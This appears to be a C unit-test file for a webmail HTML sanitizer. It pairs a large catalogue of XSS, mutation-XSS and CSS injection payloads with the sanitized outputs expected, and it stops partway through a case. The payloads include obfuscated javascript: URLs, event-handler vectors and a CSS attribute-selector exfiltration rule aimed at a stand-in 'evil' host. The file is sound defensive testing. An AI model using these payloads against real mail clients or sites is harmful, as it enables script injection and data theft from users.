/*
 * Sanitizer tests. The big table holds hostile inputs (after public
 * webmail advisories - Roundcube, RainLoop/SnappyMail, Horde, Zimbra - and
 * DOMPurify's test ideas) and benign real-world mail HTML, each with the
 * EXACT output expected. Every case is also checked for idempotence.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "sanitize/sanitize.h"

struct html_case {
	const char *name;
	const char *flags; /* R: allow_remote, N: no scope class */
	bool tracker;      /* expect rep.tracker_seen */
	const char *in;
	size_t in_len;
	const char *out;
};

#define CASE(name, flags, tracker, in, out)                                    \
	{                                                                      \
		name, flags, tracker, in, sizeof(in) - 1, out                  \
	}

static const struct html_case cases[] = {
        CASE("script_tag", "", false, "<script>alert(1)</script>ok", "ok"),
        CASE("script_uppercase", "", false,
             "<SCRIPT SRC=//evil/x.js></SCRIPT>ok", "ok"),
        CASE("script_in_attr_breakout", "", false,
             "<p title=\"</p><script>alert(1)</script>\">x</p>",
             "<p title=\"&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;\""
             ">x</p>"),
        CASE("img_onerror", "", false, "<img src=x onerror=alert(1)>", "<img>"),
        CASE("body_onload", "", false, "<body onload=alert(1)>hi</body>", "hi"),
        CASE("svg_onload", "", false,
             "<svg onload=alert(1)><circle r=1></svg>ok", "ok"),
        CASE("onmouseover_div", "", false,
             "<div onmouseover=\"alert(1)\" class=c>x</div>",
             "<div class=\"c\">x</div>"),
        CASE("on_attr_mixed_case", "", false, "<b OnClick=alert(1)>x</b>",
             "<b>x</b>"),
        CASE("details_ontoggle", "", false,
             "<details open ontoggle=alert(1)><summary>s</summary>x</detai"
             "ls>",
             "<details open=\"\"><summary>s</summary>x</details>"),
        CASE("marquee_onstart", "", false,
             "<marquee onstart=alert(1)>m</marquee>", "<marquee>m</marquee>"),
        CASE("video_poster", "", false,
             "<video poster=javascript:alert(1)><source src=x onerror=aler"
             "t(1)></video>ok",
             "ok"),
        CASE("audio_src", "", false, "<audio src=x onerror=alert(1)>", ""),
        CASE("iframe_srcdoc", "", false,
             "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>ok", "ok"),
        CASE("iframe_src_js", "", false,
             "<iframe src=\"javascript:alert(1)\">fallback</iframe>", ""),
        CASE("object_data", "", false,
             "<object data=\"javascript:alert(1)\">fb</object>ok", "ok"),
        CASE("embed_src", "", false,
             "<embed src=\"data:text/html,<script>alert(1)</script>\">ok",
             "ok"),
        CASE("applet", "", false, "<applet code=x.class>fb</applet>ok", "ok"),
        CASE("frameset", "", false,
             "<frameset><frame src=javascript:alert(1)></frameset>ok", "ok"),
        CASE("form_formaction", "", false,
             "<form action=https://evil/><button formaction=javascript:ale"
             "rt(1)>go</button><input name=x value=y></form>after",
             "after"),
        CASE("isindex_action", "", false,
             "<isindex action=javascript:alert(1) type=image>ok", "ok"),
        CASE("input_autofocus", "", false,
             "<input autofocus onfocus=alert(1)>ok", "ok"),
        CASE("textarea_breakout", "", false,
             "<textarea><script>alert(1)</script></textarea>ok", "ok"),
        CASE("select_option", "", false,
             "<select><option>a<script>alert(1)</script></select>ok", "ok"),
        CASE("keygen", "", false, "<keygen autofocus onfocus=alert(1)>ok",
             "ok"),
        CASE("base_href", "", false,
             "<base href=\"https://evil/\"><a href=\"https://ok.example/\""
             ">l</a>",
             "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"noop"
             "ener noreferrer\">l</a>"),
        CASE("meta_refresh", "", false,
             "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)"
             "\">ok",
             "ok"),
        CASE("link_stylesheet", "", false,
             "<link rel=stylesheet href=https://evil/x.css>ok", "ok"),
        CASE("title_mxss", "", false,
             "<title><img src=x onerror=alert(1)></title>ok", "ok"),
        CASE("noscript_mxss", "", false,
             "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>"
             "\"></noscript>",
             ""),
        CASE("template_content", "", false,
             "<template><script>alert(1)</script><img src=x onerror=alert("
             "1)></template>ok",
             "ok"),
        CASE("noembed_mxss", "", false,
             "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>"
             "\"></noembed>",
             "<img>&quot;&gt;"),
        CASE("noframes_mxss", "", false,
             "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>"
             "\"></noframes>",
             "<img>&quot;&gt;"),
        CASE("xmp_mxss", "", false, "<xmp><img src=x onerror=alert(1)></xmp>",
             "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>"),
        CASE("plaintext", "", false, "a<plaintext><b>bold</b>",
             "a<pre>&lt;b&gt;bold&lt;/b&gt;</pre>"),
        CASE("listing_pre", "", false, "<listing>\n\nx</listing>",
             "<pre>\n\nx</pre>"),
        CASE("style_mxss_img", "", false,
             "<style><img src=x onerror=alert(1)></style>ok", "ok"),
        CASE("style_closing_in_string", "", false,
             "<style>p{font-family:\"</style><img src=x onerror=alert(1)>"
             "\"}</style>",
             "<style>.pm p{font-family: \"\"}</style><img>&quot;}"),
        CASE("svg_foreignobject", "", false,
             "<svg><foreignObject><p>x</p><img src=x onerror=alert(1)></fo"
             "reignObject></svg>ok",
             "ok"),
        CASE("svg_script_xlink", "", false,
             "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a"
             "></svg>ok",
             "ok"),
        CASE("svg_use_data", "", false,
             "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1"
             ")>\"/></svg>ok",
             "ok"),
        CASE("math_mtext_table", "", false,
             "<math><mtext><table><mglyph><style><img src=x onerror=alert("
             "1)>",
             ""),
        CASE("math_href", "", false,
             "<math href=javascript:alert(1)>x</math>ok", "ok"),
        CASE("math_annotation", "", false,
             "<math><annotation-xml encoding=\"text/html\"><img src=x oner"
             "ror=alert(1)></annotation-xml></math>ok",
             "ok"),
        CASE("svg_style_mxss", "", false,
             "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>"
             "\">",
             ""),
        CASE("form_math_mxss", "", false,
             "<form><math><mtext></form><form><mglyph><style></math><img s"
             "rc onerror=alert(1)>",
             ""),
        CASE("svg_desc_img", "", false,
             "<svg><desc><img src=x onerror=alert(1)></desc></svg>ok", "ok"),
        CASE("a_javascript", "", false, "<a href=\"javascript:alert(1)\">x</a>",
             "<a>x</a>"),
        CASE("a_javascript_upper", "", false,
             "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_tab_entity", "", false,
             "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_newline_entity", "", false,
             "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_cr_raw", "", false,
             "<a href=\"java\rscript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_decimal_entity", "", false,
             "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_hex_noscolon", "", false,
             "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74"
             "&#x3A;alert(1)\">x</a>",
             "<a>x</a>"),
        CASE("a_js_padded_entity", "", false,
             "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_leading_space", "", false,
             "<a href=\" \001 javascript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_colon_entity", "", false,
             "<a href=\"javascript&colon;alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_js_named_tab", "", false,
             "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_vbscript", "", false, "<a href=\"vbscript:msgbox(1)\">x</a>",
             "<a>x</a>"),
        CASE("a_data_html", "", false,
             "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2Ny"
             "aXB0Pg==\">x</a>",
             "<a>x</a>"),
        CASE("a_livescript", "", false, "<a href=\"livescript:alert(1)\">x</a>",
             "<a>x</a>"),
        CASE("a_relative", "", false, "<a href=\"/api/Logout\">x</a>",
             "<a>x</a>"),
        CASE("a_protocol_relative", "", false,
             "<a href=\"//evil.example/\">x</a>", "<a>x</a>"),
        CASE("a_fragment", "", false, "<a href=\"#top\">x</a>", "<a>x</a>"),
        CASE("a_backtick_attr", "", false,
             "<a href=`javascript:alert(1)`>x</a>", "<a>x</a>"),
        CASE("a_unquoted_js", "", false, "<a href=javascript:alert(1)>x</a>",
             "<a>x</a>"),
        CASE("a_nul_in_scheme", "", false,
             "<a href=\"java\000script:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_fullwidth_scheme", "", false,
             "<a href=\"\357\275\212avascript:alert(1)\">x</a>", "<a>x</a>"),
        CASE("a_target_override", "", false,
             "<a href=\"https://e.example/\" target=\"_self\" rel=\"opener"
             "\">x</a>",
             "<a href=\"https://e.example/\" target=\"_blank\" rel=\"noope"
             "ner noreferrer\">x</a>"),
        CASE("a_https_ok", "", false,
             "<a href=\"https://example.org/a?b=1&amp;c=2\">x</a>",
             "<a href=\"https://example.org/a?b=1&amp;c=2\" target=\"_blan"
             "k\" rel=\"noopener noreferrer\">x</a>"),
        CASE("a_mailto_ok", "", false,
             "<a href=\"mailto:bob@example.org?subject=hi\">bob</a>",
             "<a href=\"mailto:bob@example.org?subject=hi\" target=\"_blan"
             "k\" rel=\"noopener noreferrer\">bob</a>"),
        CASE("a_http_spaces", "", false,
             "<a href=\"  http://example.org/  \">x</a>",
             "<a href=\"http://example.org/\" target=\"_blank\" rel=\"noop"
             "ener noreferrer\">x</a>"),
        CASE("a_cid", "", false, "<a href=\"cid:part1@x.example\">att</a>",
             "<a href=\"/part/part1@x.example\" data-petrel-cid-href=\"par"
             "t1@x.example\" target=\"_blank\" rel=\"noopener noreferrer\""
             ">att</a>"),
        CASE("a_name_id_clobber", "", false,
             "<a id=location name=cookie href=https://e.example/>x</a>",
             "<a href=\"https://e.example/\" target=\"_blank\" rel=\"noope"
             "ner noreferrer\">x</a>"),
        CASE("form_clobber", "", false,
             "<form name=body><img name=attributes></form>ok", "ok"),
        CASE("img_name_clobber", "", false,
             "<img id=getElementById name=x src=cid:a>",
             "<img src=\"/part/a\" data-petrel-cid=\"a\">"),
        CASE("a_nested_table_marker", "", false,
             "<a href=https://a.example/>1<table><tr><td><a href=https://b"
             ".example/>2</a></td></tr></table></a>",
             "<a href=\"https://a.example/\" target=\"_blank\" rel=\"noope"
             "ner noreferrer\">1<table><tbody><tr><td><a href=\"https://b."
             "example/\" target=\"_blank\" rel=\"noopener noreferrer\">2</"
             "a></td></tr></tbody></table></a>"),
        CASE("a_misnested", "", false,
             "<a href=https://a.example/>1<div>2<a href=https://b.example/"
             ">3</a></div></a>",
             "<a href=\"https://a.example/\" target=\"_blank\" rel=\"noope"
             "ner noreferrer\">1</a><div><a href=\"https://a.example/\" ta"
             "rget=\"_blank\" rel=\"noopener noreferrer\">2</a><a href=\"h"
             "ttps://b.example/\" target=\"_blank\" rel=\"noopener norefer"
             "rer\">3</a></div>"),
        CASE("img_remote_blocked", "", false,
             "<img src=\"http://img.example/a.png\" alt=\"A\">",
             "<img alt=\"A\" src=\"/blocked.gif\" data-petrel-src=\"http:/"
             "/img.example/a.png\">"),
        CASE("img_remote_allowed", "R", false,
             "<img src=\"https://img.example/a.png\" alt=\"A\">",
             "<img alt=\"A\" src=\"https://img.example/a.png\">"),
        CASE("img_tracker_attr", "R", true,
             "<img src=\"https://t.example/o.gif\" width=\"1\" height=\"1"
             "\">",
             ""),
        CASE("img_tracker_zero", "", true,
             "<img src=\"https://t.example/o.gif\" width=0>", ""),
        CASE("img_tracker_style", "R", true,
             "<img src=\"https://t.example/o.gif\" style=\"width:1px;heigh"
             "t:1px\">",
             ""),
        CASE("img_tracker_display_none", "R", true,
             "<img src=\"https://t.example/o.gif\" style=\"display:none\">",
             ""),
        CASE("img_tracker_beacon_host", "R", true,
             "<img src=\"https://www.google-analytics.com/collect?v=1\">", ""),
        CASE("img_tracker_beacon_sub", "R", true,
             "<img src=\"https://us1.list-manage.com/track/open.php?u=1\" "
             "width=600>",
             ""),
        CASE("img_javascript_src", "", false,
             "<img src=\"javascript:alert(1)\">", "<img>"),
        CASE("img_data_src", "", false,
             "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img>"),
        CASE("img_srcset", "", false,
             "<img srcset=\"https://e.example/a.png 1x\" src=cid:a>",
             "<img src=\"/part/a\" data-petrel-cid=\"a\">"),
        CASE("img_cid", "", false,
             "<img src=\"cid:logo@example.org\" alt=logo width=120>",
             "<img alt=\"logo\" width=\"120\" src=\"/part/logo@example.org"
             "\" data-petrel-cid=\"logo@example.org\">"),
        CASE("img_cid_unknown", "", false, "<img src=\"cid:xmissing\" alt=m>",
             "<img alt=\"m\">"),
        CASE("img_forged_marker", "", false,
             "<img src=cid:a data-petrel-src=\"javascript:alert(1)\">",
             "<img>"),
        CASE("img_lowsrc_dynsrc", "", false,
             "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
             "<img>"),
        CASE("image_tag", "", false, "<image src=\"http://e.example/x.png\">",
             "<img src=\"/blocked.gif\" data-petrel-src=\"http://e.example"
             "/x.png\">"),
        CASE("table_background", "", false,
             "<table background=\"http://e.example/bg.png\"><tr><td backgr"
             "ound=\"javascript:alert(1)\">x</td></tr></table>",
             "<table data-petrel-background=\"http://e.example/bg.png\"><t"
             "body><tr><td>x</td></tr></tbody></table>"),
        CASE("table_background_allowed", "R", false,
             "<table background=\"https://e.example/bg.png\"><tr><td>x</td"
             "></tr></table>",
             "<table background=\"https://e.example/bg.png\"><tbody><tr><t"
             "d>x</td></tr></tbody></table>"),
        CASE("td_background_cid", "", false,
             "<table><tr><td background=\"cid:bg\">x</td></tr></table>",
             "<table><tbody><tr><td background=\"/part/bg\" data-petrel-ci"
             "d-background=\"bg\">x</td></tr></tbody></table>"),
        CASE("blockquote_cite", "", false,
             "<blockquote cite=\"javascript:alert(1)\">q</blockquote><q ci"
             "te=\"https://e.example/\">q</q>",
             "<blockquote>q</blockquote><q cite=\"https://e.example/\">q</"
             "q>"),
        CASE("css_expression", "", false,
             "<div style=\"width: expression(alert(1))\">x</div>",
             "<div>x</div>"),
        CASE("css_expression_escaped", "", false,
             "<div style=\"width: e\\xpression(alert(1))\">x</div>",
             "<div>x</div>"),
        CASE("css_expression_comment", "", false,
             "<div style=\"width: exp/**/ression(alert(1))\">x</div>",
             "<div>x</div>"),
        CASE("css_behavior", "", false,
             "<div style=\"behavior: url(x.htc); color: red\">x</div>",
             "<div style=\"color: red\">x</div>"),
        CASE("css_behavior_escaped", "", false,
             "<div style=\"\\62 ehavior: url(x.htc)\">x</div>", "<div>x</div>"),
        CASE("css_moz_binding", "", false,
             "<div style=\"-moz-binding: url(http://e/x.xml#x)\">x</div>",
             "<div>x</div>"),
        CASE("css_url_remote_blocked", "", false,
             "<div style=\"background-image: url(http://e.example/t.gif); "
             "color: blue\">x</div>",
             "<div style=\"color: blue\">x</div>"),
        CASE("css_url_remote_allowed", "R", false,
             "<div style=\"background: #fff url('https://e.example/bg.png'"
             ") no-repeat\">x</div>",
             "<div style=\"background: #fff url(&quot;https://e.example/bg"
             ".png&quot;) no-repeat\">x</div>"),
        CASE("css_url_javascript", "R", false,
             "<div style=\"background: url(javascript:alert(1))\">x</div>",
             "<div>x</div>"),
        CASE("css_url_escaped", "", false,
             "<div style=\"background: u\\72l(http://e.example/x)\">x</div"
             ">",
             "<div>x</div>"),
        CASE("css_image_set", "R", false,
             "<div style=\"background-image: image-set('https://e.example/"
             "a.png' 1x)\">x</div>",
             "<div>x</div>"),
        CASE("css_position_fixed", "", false,
             "<div style=\"position: fixed; top: 0; left: 0; width: 100%; "
             "z-index: 9999\">x</div>",
             "<div style=\"width: 100%\">x</div>"),
        CASE("css_position_escaped", "", false,
             "<div style=\"pos\\ition: absolute\">x</div>", "<div>x</div>"),
        CASE("css_display_limited", "", false,
             "<div style=\"display: grid\">x</div><div style=\"display: IN"
             "LINE-block\">y</div>",
             "<div>x</div><div style=\"display: INLINE-block\">y</div>"),
        CASE("css_import_in_style", "", false,
             "<style>@import url(https://evil/x.css); p{color:red}</style>"
             "<p>x</p>",
             "<style>.pm p{color: red}</style><p>x</p>"),
        CASE("css_font_face", "", false,
             "<style>@font-face{font-family:x;src:url(https://evil/f.woff)"
             "} p{font-family:x}</style><p>x</p>",
             "<style>.pm p{font-family: x}</style><p>x</p>"),
        CASE("css_attr_exfil", "", false,
             "<style>input[value^=\"a\"]{background:url(https://evil/a)} a"
             "[href*=\"x\"]{color:red} p{color:green}</style><p>x</p>",
             "<style>.pm p{color: green}</style><p>x</p>"),
        CASE("css_id_selector", "", false,
             "<style>#app{display:none} .x{color:red}</style><span class=x"
             ">x</span>",
             "<style>.pm .x{color: red}</style><span class=\"x\">x</span>"),
        CASE("css_scope_escape_siblings", "", false,
             "<style>body + div{display:none} body > p{color:red} html bod"
             "y p{margin:0}</style><p>x</p>",
             "<style>.pm > p{color: red}</style><p>x</p>"),
        CASE("css_root_and_pseudo", "", false,
             "<style>:root{color:red} a:hover{color:blue} p::before{conten"
             "t:'x'} li:nth-child(2){color:red}</style>x",
             "<style>.pm{color: red}.pm a:hover{color: blue}</style>x"),
        CASE("css_media_ok", "", false,
             "<style>@media only screen and (max-width: 600px){td{display:"
             "block!important;width:100%}}</style>x",
             "<style>@media only screen and (max-width: 600px){.pm td{disp"
             "lay: block !important; width: 100%}}</style>x"),
        CASE("css_media_bad_prelude", "", false,
             "<style>@media url(x){p{color:red}}</style>x", "x"),
        CASE("css_nested_media_import", "", false,
             "<style>@media screen{@import 'x'; p{color:red}}</style>x",
             "<style>@media screen{.pm p{color: red}}</style>x"),
        CASE("css_comment_cdo", "", false,
             "<style><!-- p{color:red} --></style>x",
             "<style>.pm p{color: red}</style>x"),
        CASE("css_important", "", false,
             "<p style=\"COLOR: Red ! IMPORTANT; margin:0 !important\">x</"
             "p>",
             "<p style=\"color: Red !important; margin: 0 !important\">x</"
             "p>"),
        CASE("css_string_outside_font", "", false,
             "<p style=\"list-style-type: '<img src=x onerror=alert(1)>'\""
             ">x</p>",
             "<p>x</p>"),
        CASE("css_font_family_string", "", false,
             "<p style=\"font-family: 'Segoe UI', Arial, sans-serif\">x</p"
             ">",
             "<p style=\"font-family: &quot;Segoe UI&quot;, Arial, sans-se"
             "rif\">x</p>"),
        CASE("css_quote_breakout", "", false,
             "<p style='font-family: \"x\\\" onmouseover=alert(1) \"'>x</p"
             ">",
             "<p style=\"font-family: &quot;x\\&quot; onmouseover=alert(1)"
             " &quot;\">x</p>"),
        CASE("css_semicolon_injection", "", false,
             "<p style=\"color: red; ; ;; background-color:#eee;\">x</p>",
             "<p style=\"color: red; background-color: #eee\">x</p>"),
        CASE("css_unclosed_block", "", false, "<style>p{color:red</style>x",
             "<style>.pm p{color: red}</style>x"),
        CASE("css_bad_string", "", false,
             "<p style=\"font-family: 'unterminated\n; color: red\">x</p>",
             "<p style=\"color: red\">x</p>"),
        CASE("css_custom_property_var", "", false,
             "<p style=\"--x: url(http://e/); background: var(--x); color:"
             " rgb(1, 2, 3)\">x</p>",
             "<p style=\"color: rgb(1, 2, 3)\">x</p>"),
        CASE("css_calc", "", false,
             "<p style=\"width: calc(100% - 20px)\">x</p>",
             "<p style=\"width: calc(100% - 20px)\">x</p>"),
        CASE("css_no_scope_drops_style", "N", false,
             "<style>p{color:red}</style><p style=\"color:blue\">x</p>",
             "<p style=\"color: blue\">x</p>"),
        CASE("comment_bang_close", "", false,
             "<!-- --!><img src=x onerror=alert(1)> -->ok", "<img> --&gt;ok"),
        CASE("comment_conditional", "", false,
             "<!--[if IE]><script>alert(1)</script><![endif]-->ok", "ok"),
        CASE("comment_bogus", "", false,
             "<! foo --><img src=x onerror=alert(1)>", "<img>"),
        CASE("cdata_html", "", false,
             "<![CDATA[<img src=x onerror=alert(1)>]]>ok", "]]&gt;ok"),
        CASE("cdata_svg", "", false,
             "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>ok",
             "ok"),
        CASE("unclosed_tags", "", false,
             "<div><p>one<p>two<b>bold<i>both</div>after",
             "<div><p>one</p><p>two<b>bold<i>both</i></b></p></div><b><i>a"
             "fter</i></b>"),
        CASE("unclosed_attr_quote", "", false,
             "<a href=\"https://e.example/>x</a><img src=x onerror=alert(1"
             ")>",
             ""),
        CASE("lt_in_text", "", false, "a < b > c & d \" e ' f",
             "a &lt; b &gt; c &amp; d &quot; e &#39; f"),
        CASE("nul_bytes", "", false,
             "a\000b<scr\000ipt>alert(1)</script><img s\000rc=x>",
             "ab<span>alert(1)<img></span>"),
        CASE("slash_attr_sep", "", false,
             "<img/src=\"cid:a\"/onerror=alert(1)>",
             "<img src=\"/part/a\" data-petrel-cid=\"a\">"),
        CASE("attr_no_space", "", false,
             "<a href=\"https://e.example/\"onclick=alert(1)>x</a>",
             "<a href=\"https://e.example/\" target=\"_blank\" rel=\"noope"
             "ner noreferrer\">x</a>"),
        CASE("double_attrs", "", false,
             "<a href=\"https://ok.example/\" href=\"javascript:alert(1)\""
             ">x</a>",
             "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"noop"
             "ener noreferrer\">x</a>"),
        CASE("entity_text", "", false,
             "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &nbsp;&copy;",
             "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; \302\240\302"
             "\251"),
        CASE("h_nested_unknown", "", false, "<h1><o:p><h2>x</h2></o:p></h1>",
             "<h1><span><h2>x</h2></span></h1>"),
        CASE("li_fieldset_nest", "", false, "<ul><li><fieldset><li>x</ul>",
             "<ul><li><fieldset><li>x</li></fieldset></li></ul>"),
        CASE("p_button_nest", "", false, "<p><button><p>x</button>", "<p></p>"),
        CASE("pre_leading_newline", "", false, "<pre>\n\nline</pre>",
             "<pre>\n\nline</pre>"),
        CASE("custom_elements", "", false,
             "<x-widget onload=alert(1) class=w>txt</x-widget>",
             "<span class=\"w\">txt</span>"),
        CASE("unicode_text", "", false,
             "<p>\320\237\321\200\320\270\320\262\320\265\321\202 \342\200"
             "\256 evil</p>",
             "<p>\320\237\321\200\320\270\320\262\320\265\321\202 \342\200"
             "\256 evil</p>"),
        CASE("control_char_ref", "", false, "a&#1;b&#x7f;c", "a&#1;b&#127;c"),
        CASE("dialog_open", "", false, "<dialog open>phish</dialog>",
             "<span>phish</span>"),
        CASE("html_head_wrappers", "", false,
             "<html><head><title>T</title><style>p{color:red}</style></hea"
             "d><body bgcolor=red><p>x</p></body></html>",
             "<style>.pm p{color: red}</style><p>x</p>"),
        CASE("doctype", "", false, "<!DOCTYPE html><p>x</p>", "<p>x</p>"),
        CASE("huge_attr_count", "", false,
             "<p a0=0 a1=1 a2=2 a3=3 a4=4 a5=5 a6=6 a7=7 a8=8 a9=9 a10=10 "
             "a11=11 a12=12 a13=13 a14=14 a15=15 a16=16 a17=17 a18=18 a19="
             "19 a20=20 a21=21 a22=22 a23=23 a24=24 a25=25 a26=26 a27=27 a"
             "28=28 a29=29 a30=30 a31=31 a32=32 a33=33 a34=34 a35=35 a36=3"
             "6 a37=37 a38=38 a39=39 a40=40 a41=41 a42=42 a43=43 a44=44 a4"
             "5=45 a46=46 a47=47 a48=48 a49=49 a50=50 a51=51 a52=52 a53=53"
             " a54=54 a55=55 a56=56 a57=57 a58=58 a59=59 a60=60 a61=61 a62"
             "=62 a63=63 a64=64 a65=65 a66=66 a67=67 a68=68 a69=69 a70=70 "
             "a71=71 a72=72 a73=73 a74=74 a75=75 a76=76 a77=77 a78=78 a79="
             "79 a80=80 a81=81 a82=82 a83=83 a84=84 a85=85 a86=86 a87=87 a"
             "88=88 a89=89 a90=90 a91=91 a92=92 a93=93 a94=94 a95=95 a96=9"
             "6 a97=97 a98=98 a99=99 a100=100 a101=101 a102=102 a103=103 a"
             "104=104 a105=105 a106=106 a107=107 a108=108 a109=109 a110=11"
             "0 a111=111 a112=112 a113=113 a114=114 a115=115 a116=116 a117"
             "=117 a118=118 a119=119 a120=120 a121=121 a122=122 a123=123 a"
             "124=124 a125=125 a126=126 a127=127 a128=128 a129=129 a130=13"
             "0 a131=131 a132=132 a133=133 a134=134 a135=135 a136=136 a137"
             "=137 a138=138 a139=139 a140=140 a141=141 a142=142 a143=143 a"
             "144=144 a145=145 a146=146 a147=147 a148=148 a149=149 a150=15"
             "0 a151=151 a152=152 a153=153 a154=154 a155=155 a156=156 a157"
             "=157 a158=158 a159=159 a160=160 a161=161 a162=162 a163=163 a"
             "164=164 a165=165 a166=166 a167=167 a168=168 a169=169 a170=17"
             "0 a171=171 a172=172 a173=173 a174=174 a175=175 a176=176 a177"
             "=177 a178=178 a179=179 a180=180 a181=181 a182=182 a183=183 a"
             "184=184 a185=185 a186=186 a187=187 a188=188 a189=189 a190=19"
             "0 a191=191 a192=192 a193=193 a194=194 a195=195 a196=196 a197"
             "=197 a198=198 a199=199 a200=200 a201=201 a202=202 a203=203 a"
             "204=204 a205=205 a206=206 a207=207 a208=208 a209=209 a210=21"
             "0 a211=211 a212=212 a213=213 a214=214 a215=215 a216=216 a217"
             "=217 a218=218 a219=219 a220=220 a221=221 a222=222 a223=223 a"
             "224=224 a225=225 a226=226 a227=227 a228=228 a229=229 a230=23"
             "0 a231=231 a232=232 a233=233 a234=234 a235=235 a236=236 a237"
             "=237 a238=238 a239=239 a240=240 a241=241 a242=242 a243=243 a"
             "244=244 a245=245 a246=246 a247=247 a248=248 a249=249 a250=25"
             "0 a251=251 a252=252 a253=253 a254=254 a255=255 a256=256 a257"
             "=257 a258=258 a259=259 a260=260 a261=261 a262=262 a263=263 a"
             "264=264 a265=265 a266=266 a267=267 a268=268 a269=269 a270=27"
             "0 a271=271 a272=272 a273=273 a274=274 a275=275 a276=276 a277"
             "=277 a278=278 a279=279 a280=280 a281=281 a282=282 a283=283 a"
             "284=284 a285=285 a286=286 a287=287 a288=288 a289=289 a290=29"
             "0 a291=291 a292=292 a293=293 a294=294 a295=295 a296=296 a297"
             "=297 a298=298 a299=299 class=k>x</p>",
             "<p class=\"k\">x</p>"),
        CASE("many_classes_style", "", false,
             "<span style=\"color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red;color:red;color:red;color:"
             "red;color:red;color:red;color:red\">x</span>",
             "<span style=\"color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red; color: red; color: red; color: red; color: red"
             "; color: red\">x</span>"),
        CASE("font_tag", "", false,
             "<font color=\"#ff0000\" face=\"Arial\" size=\"3\" onmouseove"
             "r=x>t</font>",
             "<font color=\"#ff0000\" face=\"Arial\" size=\"3\">t</font>"),
        CASE("center_tag", "", false, "<center>c</center>",
             "<center>c</center>"),
        CASE("outlook_table", "", false,
             "<table border=\"0\" cellpadding=\"0\" cellspacing=\"0\" widt"
             "h=\"100%\" style=\"border-collapse:collapse\"><tr><td valign"
             "=\"top\" style=\"padding:10px 20px; font-family:Calibri, san"
             "s-serif; font-size:11pt\"><p class=\"MsoNormal\">Hello Bob,<"
             "o:p></o:p></p></td></tr></table>",
             "<table border=\"0\" cellpadding=\"0\" cellspacing=\"0\" widt"
             "h=\"100%\" style=\"border-collapse: collapse\"><tbody><tr><t"
             "d valign=\"top\" style=\"padding: 10px 20px; font-family: Ca"
             "libri, sans-serif; font-size: 11pt\"><p class=\"MsoNormal\">"
             "Hello Bob,<span></span></p></td></tr></tbody></table>"),
        CASE("newsletter_head_style", "", false,
             "<html><head><style type=\"text/css\">body{margin:0;padding:0"
             "} .btn{background-color:#1a73e8;color:#ffffff;border-radius:"
             "4px} @media screen and (max-width: 480px){.col{width:100% !i"
             "mportant}}</style></head><body><div class=\"col\"><a class="
             "\"btn\" href=\"https://shop.example/sale?utm=1\">Shop now</a"
             "></div></body></html>",
             "<style>.pm{margin: 0; padding: 0}.pm .btn{background-color: "
             "#1a73e8; color: #ffffff; border-radius: 4px}@media screen an"
             "d (max-width: 480px){.pm .col{width: 100% !important}}</styl"
             "e><div class=\"col\"><a class=\"btn\" href=\"https://shop.ex"
             "ample/sale?utm=1\" target=\"_blank\" rel=\"noopener noreferr"
             "er\">Shop now</a></div>"),
        CASE("inline_fonts", "", false,
             "<div style=\"font-family: Georgia, 'Times New Roman', serif;"
             " font-size: 14px; line-height: 1.5; color: #333\"><b>Bold</b"
             ">, <i>italic</i>, <u>under</u>, <s>strike</s>, <sub>2</sub><"
             "sup>3</sup></div>",
             "<div style=\"font-family: Georgia, &quot;Times New Roman&quo"
             "t;, serif; font-size: 14px; line-height: 1.5; color: #333\">"
             "<b>Bold</b>, <i>italic</i>, <u>under</u>, <s>strike</s>, <su"
             "b>2</sub><sup>3</sup></div>"),
        CASE("signature_cid", "", false,
             "<p>--<br>Alice<br><img src=\"cid:sig-logo@mail.example\" alt"
             "=\"Logo\" width=\"80\" height=\"20\"></p>",
             "<p>--<br>Alice<br><img alt=\"Logo\" width=\"80\" height=\"20"
             "\" src=\"/part/sig-logo@mail.example\" data-petrel-cid=\"sig"
